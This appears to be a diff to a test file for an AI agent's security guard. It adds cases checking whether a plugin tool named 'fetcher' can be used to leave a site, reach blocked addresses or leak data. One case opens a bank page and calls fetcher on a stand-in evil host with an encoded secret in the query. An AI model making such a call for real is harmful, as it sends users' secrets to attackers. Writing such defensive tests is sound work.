@@ -431,4 +431,22 @@ LEAVES = (
         may=("home/grave/x",),
     ),
 )
-CASES = (*FRAMES, *BLOCKED, *SCHEMES, *MODES, *LEAVES)
+PLUGINS = (
+    Case(
+        "leave: of a site for a plugin's tool",
+        {"home": HELLO},
+        (*LEAVE, Call("fetcher", {"where": "%HOME%/plain/x"})),
+        _HOME_ONLY,
+    ),
+    Case(
+        "leave: of a plugin's tool for a site",
+        {"home": HELLO + _PLAIN},
+        (Call("fetcher", {"where": "%EVIL%/c"}), *START, _NEXT),
+        Rule(("fetcher",)),
+    ),
+    Case("secret: through a plugin's tool", {}, (Open("%BANK%/"), Call("fetcher", {"where": "%EVIL%/c?d=$S64"}))),
+    Case("mode read_only: a plugin's tool", {}, (Call("fetcher", {"where": "%HOME%/grave/x"}),), mode="read_only"),
+    Case("mode auto: a plugin's tool", {}, (Call("fetcher", {"where": "%LISTED%/grave/x"}),), REFUSES, mode="auto"),
+)
+"""`fetcher` is a plugin that opens an address, which is its word for where."""
+CASES = (*PLUGINS, *FRAMES, *BLOCKED, *SCHEMES, *MODES, *LEAVES)
